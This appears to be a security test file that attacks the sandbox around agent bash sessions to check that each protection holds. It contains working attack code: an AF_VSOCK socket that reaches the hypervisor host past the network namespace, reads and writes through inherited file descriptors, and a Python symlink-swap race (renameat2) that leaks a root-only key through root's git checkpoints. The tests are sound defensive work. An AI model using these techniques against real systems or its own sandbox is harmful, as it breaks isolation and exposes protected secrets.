/**
 * Adversary round 5: a fresh attacker against the round-3 layers (issue 22), as root with the
 * sandbox on. Each test asserts that a protection holds, so each fails while the attack works.
 *
 * Kind 6 (the sandbox's edges): the seccomp filter (src/session/seccomp.ts) refuses the unix
 * family only. AF_VSOCK is not namespaced by the network namespace (Linux 6.18): on a VM (this
 * one is Firecracker, with a virtio vsock device, /dev/vsock) a session opens a vsock socket and
 * can connect to CID 2, the hypervisor's host, whatever `--network` says: a host service outside
 * every network rule of src/session/network.ts.
 *
 * Kind 6/7 (anything the worker holds): every descriptor the worker inherited without
 * close-on-exec (a log its supervisor opened, a pipe of a CI runner) is inherited in turn by bash
 * and every job: libuv's spawn, setpriv and bwrap close nothing. A session then writes a file its
 * user cannot open.
 *
 * Kind 7 (what the worker trusts that the session user can write), with the sandbox on: the
 * checkpoint store (src/checkpoint/store.ts) runs `git add -A -f` as root on the workspace while
 * the session's background jobs run. git lstat()s a file, sees a regular one, then open()s it by
 * path, following whatever is there now: a job that swaps each file with a symlink (renameat2
 * RENAME_EXCHANGE, in a loop) makes root's git store a root-only file's content as that path. A
 * rewind (or fork) then writes it into the workspace as the session user's file; `diff` prints it.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { restoreCheckpoint, takeCheckpoint, type Checkpoint } from '../../../src/checkpoint/store';
import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';

const ROOT = path.resolve(__dirname, '../../..');

afterEach(async () => {
  await closeSessions();
  removeTempDirs();
});

const PY = '/usr/bin/python3';

describe('kind 6: socket families that cross the network namespace', () => {
  const vsock = `${PY} -c 'import socket; s=socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print("VSOCK-OPEN")' 2>&1`;

  test('a session opens no AF_VSOCK socket (the hypervisor host, reachable whatever the network namespace), from a command or a job', async () => {
    if (process.getuid?.() !== 0) throw new Error('this attack test needs root (the worker setting)');
    // The attack is real here: the worker's host has the family (a VM with a vsock device).
    const host = spawnSync(PY, ['-c', 'import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print("VSOCK-OPEN")'], {
      encoding: 'utf8',
    });
    if (!host.stdout.includes('VSOCK-OPEN')) throw new Error(`this attack test needs AF_VSOCK on the host: ${host.stderr}`);
    const ws = tempDir();
    for (const network of [false, true]) {
      const s = await startSession({ cwd: ws, workspace: ws, network });
      const r = await s.run(vsock);
      expect(r.output).not.toContain('VSOCK-OPEN');
      const out = path.join(ws, `job-${network}.txt`);
      await s.run(`(sleep 0.2; ${vsock} > ${out}) >/dev/null 2>&1 &`);
      const deadline = Date.now() + 10_000;
      while (Date.now() < deadline && !(fs.existsSync(out) && fs.readFileSync(out, 'utf8').length > 0)) {
        await new Promise((res) => setTimeout(res, 100));
      }
      expect(fs.readFileSync(out, 'utf8')).not.toContain('VSOCK-OPEN');
      await s.close();
    }
  });
});

/**
 * A process that starts one session with the library (TypeScript transpiled on load) and runs
 * `CMD` in it: the worker's place. It is started with descriptors of its own beyond stdio, as a
 * supervisor or a CI runner leaves them (libuv's spawn keeps those from 20 up).
 */
const WORKER_JS = `
const fs = require('fs');
const ts = require(process.env.TS);
require.extensions['.ts'] = (m, f) => m._compile(ts.transpileModule(fs.readFileSync(f, 'utf8'), {
  compilerOptions: { module: ts.ModuleKind.CommonJS, target: ts.ScriptTarget.ES2022, esModuleInterop: true }, fileName: f }).outputText, f);
const { BashSession } = require(process.env.ROOT + '/src/session/index.ts');
(async () => {
  const s = await BashSession.start({ cwd: process.env.WS, workspace: process.env.WS, killGraceMs: 200, timeoutMs: 10000 });
  const r = await s.run(process.env.CMD);
  process.stdout.write(JSON.stringify({ output: r.output, exitCode: r.exitCode }));
  await s.close();
})().catch((e) => { console.error(e); process.exit(1); });
`;

describe('kind 6/7: descriptors the worker inherited reach the session', () => {
  test('a session can neither read nor write a root-only file through a descriptor its worker was started with', () => {
    if (process.getuid?.() !== 0) throw new Error('this attack test needs root (the worker setting)');
    const secretDir = fs.mkdtempSync(path.join(os.tmpdir(), 'aj-root-only-'));
    try {
      fs.chmodSync(secretDir, 0o700);
      const log = path.join(secretDir, 'supervisor.log');
      fs.writeFileSync(log, 'ROOT-ONLY-CONTENT\n', { mode: 0o600 });
      const script = path.join(secretDir, 'worker.js');
      fs.writeFileSync(script, WORKER_JS);
      const ws = tempDir();
      const r = spawnSync('/bin/bash', ['-c', 'exec 40>>"$LOG" 41<"$LOG"; exec node "$SCRIPT"'], {
        encoding: 'utf8',
        timeout: 60_000,
        env: {
          PATH: process.env.PATH,
          LOG: log,
          SCRIPT: script,
          ROOT,
          TS: require.resolve('typescript'),
          WS: ws,
          CMD: 'id -un; cat <&41; echo WRITTEN-BY-SESSION >&40',
        },
      });
      const result = JSON.parse(r.stdout || '{}') as { output?: string };
      // The session ran, as the unprivileged session user, who cannot open the file by its name.
      expect(result.output).toMatch(/^agent-jobs\n/);
      expect(result.output).not.toContain('ROOT-ONLY-CONTENT');
      expect(fs.readFileSync(log, 'utf8')).not.toContain('WRITTEN-BY-SESSION');
    } finally {
      fs.rmSync(secretDir, { recursive: true, force: true });
    }
  }, 90_000);
});

/** Swaps each of N regular files (of SIZE bytes) with a symlink to TARGET, over and over (python, renameat2 RENAME_EXCHANGE). */
const FLIPPER = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
n, target, size = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
os.makedirs('d', exist_ok=True)
for i in range(n):
  with open(f'd/f{i}', 'w') as f: f.write('x' * size)
  os.symlink(target, f'd/l{i}')
print('READY', flush=True)
while True:
  for i in range(n):
    libc.renameat2(-100, f'd/f{i}'.encode(), -100, f'd/l{i}'.encode(), 2)
`;

describe("kind 7: the checkpoint's git, run as root, reads what a session job swaps in", () => {
  test('no checkpoint taken while a job swaps files for symlinks holds a root-only file, and a rewind gives the session none', async () => {
    if (process.getuid?.() !== 0) throw new Error('this attack test needs root (the worker setting)');
    const secretDir = fs.mkdtempSync(path.join(os.tmpdir(), 'aj-root-only-'));
    try {
      fs.chmodSync(secretDir, 0o700);
      const secret = path.join(secretDir, 'id_key');
      const content = `ROOT-ONLY-KEY-${'k'.repeat(50)}`;
      fs.writeFileSync(secret, content, { mode: 0o600 });
      const ws = tempDir();
      const checkpoints = tempDir('aj-checkpoints-');
      // A file of the repository (untrusted), run as a background job by an approved command (`npm test` would do).
      fs.writeFileSync(path.join(ws, 'flip.py'), FLIPPER);
      const s = await startSession({ cwd: ws, workspace: ws });
      const started = await s.run(`python3 flip.py 200 ${secret} ${content.length} > flip.log 2>&1 & sleep 1; cat flip.log; cat ${secret}`);
      expect(started.output).toContain('READY');
      // The session user cannot read the file itself.
      expect(started.output).not.toContain('ROOT-ONLY-KEY');

      // The worker checkpoints before every tool call that may write, while the job runs.
      const holding: Checkpoint[] = [];
      const deadline = Date.now() + 45_000;
      for (let turn = 1; holding.length === 0 && Date.now() < deadline; turn++) {
        const cp = await takeCheckpoint(checkpoints, ws, { maxBytes: 1e9 }, `turn ${turn}`).catch(() => undefined);
        if (!cp || !('id' in cp)) continue;
        const tree = execFileSync('git', ['--git-dir', cp.store, 'ls-tree', '-r', cp.id], { encoding: 'utf8' });
        for (const blob of new Set(
          tree
            .split('\n')
            .filter(Boolean)
            .map((l) => l.split(/\s+/)[2]!),
        )) {
          if (execFileSync('git', ['--git-dir', cp.store, 'cat-file', '-p', blob], { encoding: 'utf8' }).includes('ROOT-ONLY-KEY')) {
            holding.push(cp);
            break;
          }
        }
      }
      await s.close();
      // A person rewinds the run to that turn: the session restarts in the restored workspace.
      if (holding[0]) await restoreCheckpoint(holding[0].store, ws, holding[0].id);
      const after = await startSession({ cwd: ws, workspace: ws });
      const read = await after.run('id -un; grep -rh ROOT-ONLY-KEY d | head -1');
      expect(read.output).toMatch(/^agent-jobs\n/);
      expect(holding.map((c) => c.id)).toEqual([]);
      expect(read.output).not.toContain('ROOT-ONLY-KEY');
    } finally {
      fs.rmSync(secretDir, { recursive: true, force: true });
    }
  }, 120_000);
});
